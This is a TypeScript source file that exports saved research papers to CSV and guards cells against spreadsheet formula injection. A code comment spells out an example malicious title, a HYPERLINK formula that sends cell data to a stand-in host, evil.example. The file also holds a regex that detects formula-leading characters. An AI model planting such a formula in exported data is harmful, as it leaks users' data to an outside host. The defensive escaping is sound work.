// CSV export of saved papers (RFC 4180), for spreadsheets. Pure: no browser APIs.
import type { PaperRow } from '../db';
import { paperUrl } from '../hf/urls';

export const CSV_COLUMNS = [
  'id',
  'title',
  'authors',
  'published',
  'url',
  'arxiv url',
  'code url',
  'stars',
  'upvotes',
  'project url',
  'tags',
  'manual tags',
  'status',
  'notes',
  'starred at',
  'hidden at',
] as const;

/** Lists (authors, tags) in one cell. A name containing "; " cannot be told apart: CSV is for reading, the JSON backup for restoring. */
export const CSV_LIST_SEPARATOR = '; ';

/** Excel reads a CSV file as UTF-8 only when it starts with this byte-order mark. */
export const CSV_BOM = '\uFEFF';

export interface CsvOptions {
  /** Start with a UTF-8 byte-order mark (for Excel). Default false. */
  bom?: boolean;
}

/**
 * RFC 4180: a header row, then one row per paper, each line ending in CRLF; a field holding a comma,
 * a double quote, CR or LF is quoted, with its quotes doubled. Newlines inside notes stay as they
 * are (inside quotes). Dates are ISO 8601 (UTC); absent values are empty fields.
 */
export function toCsv(papers: readonly PaperRow[], options: CsvOptions = {}): string {
  const lines = [CSV_COLUMNS.map(csvField).join(',')];
  for (const p of papers) lines.push(row(p).map(csvField).join(','));
  return (options.bom ? CSV_BOM : '') + lines.map((l) => l + '\r\n').join('');
}

function row(p: PaperRow): string[] {
  return [
    p.id,
    p.title,
    p.authors.join(CSV_LIST_SEPARATOR),
    p.publishedAt ?? '',
    p.url || paperUrl(p.id),
    `https://arxiv.org/abs/${p.id}`,
    p.codeUrl ?? '',
    num(p.codeStars),
    num(p.upvotes),
    p.projectUrl ?? '',
    p.tags.join(CSV_LIST_SEPARATOR),
    (p.manualTags ?? []).join(CSV_LIST_SEPARATOR),
    p.status ?? 'to-read',
    p.notes ?? '',
    iso(p.starredAt),
    iso(p.hiddenAt),
  ];
}

const num = (n: number | undefined) => (typeof n === 'number' && Number.isFinite(n) ? String(n) : '');

function iso(ms: number | undefined): string {
  if (typeof ms !== 'number') return '';
  const d = new Date(ms);
  return Number.isNaN(d.getTime()) ? '' : d.toISOString();
}

/**
 * Formula injection: spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with
 * = + - @ (or a tab or CR, which some strip first) as a formula, so a paper titled
 * `=HYPERLINK("https://evil.example?"&A1,"click")` could send the user's data away when the file is
 * opened. Such a field gets a leading apostrophe, which makes the cell plain text. To keep this
 * reversible (see `unguardCsvField`), a field that already starts with apostrophes followed by one
 * of those characters gets one more.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

export function guardCsvField(value: string): string {
  return FORMULA_START.test(value) ? "'" + value : value;
}

/** The inverse of `guardCsvField` (for reading our own CSV back). */
export function unguardCsvField(value: string): string {
  return /^'+[=+\-@\t\r]/.test(value) ? value.slice(1) : value;
}

function csvField(value: string): string {
  const v = guardCsvField(value);
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}
